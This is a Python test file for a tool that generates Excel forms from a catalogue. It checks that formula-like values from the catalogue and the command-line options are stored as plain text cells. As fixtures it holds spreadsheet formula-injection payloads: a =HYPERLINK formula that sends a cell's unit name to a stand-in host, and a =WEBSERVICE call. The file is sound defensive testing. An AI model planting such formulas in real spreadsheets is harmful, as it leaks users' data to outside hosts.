"""Every text statuskart writes into the skjema is text, never a formula, whoever wrote it.

A trust's catalogue and the template options are untrusted: a title like
``=HYPERLINK("https://x.example/?u="&Forside!B7,"Les veiledningen")`` must arrive as the text a
user reads, not as a live link that sends the unit's name away.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook

from statuskart.catalog.load import load_catalog
from statuskart.cli.commands import main
from statuskart.workbook import layout as L

LINK = '=HYPERLINK("https://x.example/?u="&Forside!B7,"Les veiledningen")'
CALL = "=WEBSERVICE(CONCAT(Forside!B6))"
CATALOGUE = """
id: formel
title: '{link}'
version: "1"
valid_from: 2024-01-01
scale:
  - {{label: '=WEBSERVICE(A1)', points: 0, description: '{call}'}}
  - {{label: '+Ja', points: 1, description: '@SUM(1)'}}
priorities: {{kritisk: 3}}
phases: [{{id: H, title: '{call}'}}]
requirements:
  - {{id: F-01, phase: H, title: '{link}', text: '{call}', priority: kritisk,
     action: '{call}', source: 'https://www.helsedirektoratet.no/x'}}
"""


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [
            name
            for name in z.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<(?:\w+:)?f[ >]", z.read(name))
        ]


def test_formula_text_in_every_catalogue_field_and_option_is_written_as_text(
    tmp_path: Path, runner: CliRunner
) -> None:
    catalogue = tmp_path / "formel.yaml"
    text = CATALOGUE.format(link=LINK.replace("'", "''"), call=CALL)
    catalogue.write_text(text, encoding="utf-8")
    load_catalog(catalogue)  # the catalogue itself is acceptable: the text is only text
    out = tmp_path / "skjema.xlsx"
    options = ["--rhf", CALL, "--hf", LINK, "--unit", "=1+1", "--period", "@2026-T1"]
    result = runner.invoke(
        main,
        ["template", "--catalog", str(catalogue), "--pathway", "formel", "-o", str(out), *options],
    )
    assert result.exit_code == 0, result.output
    assert _formulas(out) == []
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    untrusted = (LINK, CALL, "=1+1", "@2026-T1", "=WEBSERVICE(A1)", "@SUM(1)")
    assert {c.value for c in cells} >= set(untrusted)  # each arrives as a cell of its own …
    assert {c.data_type for c in cells if c.value in untrusted} == {"s"}  # … holding text
    checklist = wb[L.CHECKLIST_SHEET]
    assert any(c.value == LINK and c.data_type == "s" for row in checklist.iter_rows() for c in row)
